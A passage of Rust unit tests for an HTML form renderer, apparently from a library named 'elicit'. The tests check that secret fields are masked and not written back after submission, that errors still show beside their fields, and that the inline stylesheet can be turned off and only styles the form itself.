    let page = HtmlForm::new(&schema)
        .mask_secrets(true)
        .refill(&submission)
        .render();
    let html = parse(&page);
    let key = input(&html, "elicit-f0");
    assert_eq!(attr(key, "type"), Some("password"));
    assert_eq!(attr(key, "autocomplete"), Some("off"));
    // What was typed into the secret is not written back; the other field is.
    assert_eq!(attr(key, "value"), None);
    assert!(!page.contains("short-1"), "{page}");
    let region = input(&html, "elicit-f1");
    assert_eq!(attr(region, "type"), Some("text"));
    assert_eq!(attr(region, "value"), Some("x"));
    // Both errors are still shown beside their fields.
    assert_eq!(html.select(&sel(".elicit-field .elicit-error")).count(), 2);
}

#[test]
fn the_style_sheet_can_be_left_to_the_page() {
    let schema = schema();
    let with = parse(&render(&schema));
    assert_eq!(with.select(&sel("form > style")).count(), 1);
    let without = HtmlForm::new(&schema).stylesheet(false).render();
    assert!(!without.contains("<style"), "{without}");
    // Every rule of the style sheet is scoped to the form (or is a media query of
    // such rules): it cannot restyle the page around it.
    for rule in elicit::client::html::STYLESHEET
        .split('}')
        .filter(|r| !r.trim().is_empty())
    {
        // `selectors{declarations`, or `@media (…){selectors{declarations`.
        let parts: Vec<&str> = rule.split('{').collect();
        let selectors = parts[parts.len() - 2];
        for selector in selectors.split(',') {
            assert!(
                selector.trim().starts_with(".elicit-form"),
                "unscoped selector `{selector}`"
            );
        }
    }
}
